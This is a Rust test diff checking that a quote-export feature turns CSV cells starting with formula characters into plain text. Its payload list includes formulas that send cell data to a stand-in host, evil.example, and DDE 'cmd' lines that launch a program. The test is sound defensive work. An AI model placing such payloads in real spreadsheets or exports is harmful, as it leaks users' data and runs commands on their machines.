@@ -199,6 +199,65 @@ fn exports_download_as_rfc4180_csv_and_json() {
     assert_eq!(r.status, 404);
 }
 
+/// Formula payloads (OWASP's CSV injection page, public cheat sheets): each must reach a
+/// spreadsheet as text.
+const FORMULAS: &[&str] = &[
+    "=HYPERLINK(\"http://evil.example/?leak=\"&C2&E2,\"Error: click to fix\")",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
+    "=WEBSERVICE(\"http://evil.example/\"&A2)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+];
+
+#[test]
+fn exported_csv_cells_never_start_a_formula() {
+    let db = TestDb::new();
+    let user = paid_user(&db, "export@example.test");
+    let host = Host::start(HostConfig::app(&db));
+    // Whatever path wrote them (an import, an older version, the API with detection off), the
+    // stored texts are the payloads.
+    let ids: Vec<String> = FORMULAS.iter().map(|_| quote(&host, &user, "placeholder", "")).collect();
+    let mut c = db.client();
+    for (id, payload) in ids.iter().zip(FORMULAS) {
+        c.execute(
+            "UPDATE quotes SET client_name = $2, notes = $2, client_email = $2, client_phone = '+15035550142'
+             WHERE id = $1::text::uuid",
+            &[id, payload],
+        )
+        .unwrap();
+    }
+    let items: Vec<&str> = ids.iter().map(String::as_str).collect();
+    let j = submit(&host, &user, &json!({"operation": "export_quotes", "items": items, "options": {"format": "csv"}})).json();
+    assert_eq!(j["processed_items"].as_i64(), Some(FORMULAS.len() as i64), "{j}");
+    let id = j["id"].as_str().unwrap();
+    let r = host.get(&format!("{PATH}/jobs/{id}/download")).bearer(&Jwt::user(&user)).send();
+    assert_eq!(r.status, 200, "{}", r.text());
+    let rows = parse_csv(&r.text());
+    assert_eq!(rows.len(), FORMULAS.len() + 1);
+    let col = |name: &str| rows[0].iter().position(|c| c == name).unwrap();
+    for (row, payload) in rows[1..].iter().zip(FORMULAS) {
+        for cell in row {
+            let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+                || cell.trim_start().starts_with(['=', '+', '-', '@']);
+            assert!(!runs || cell == "+15035550142", "a spreadsheet would run {cell:?}");
+        }
+        for name in ["client_name", "notes", "client_email"] {
+            assert_eq!(row[col(name)], format!("'{payload}"), "{name}");
+        }
+        assert_eq!(row[col("client_phone")], "+15035550142", "a number stays a number");
+        assert_eq!(row[col("total")], "39.98");
+    }
+    // The JSON export is data, not a sheet: the texts as stored.
+    let r = host.get(&format!("{PATH}/jobs/{id}/download?format=json")).bearer(&Jwt::user(&user)).send();
+    let v = r.json();
+    assert_eq!(v["quotes"][0]["client_name"], FORMULAS[0]);
+}
+
 #[test]
 fn item_prices_change_by_percentage_or_fixed_in_cents_never_below_zero() {
     let db = TestDb::new();
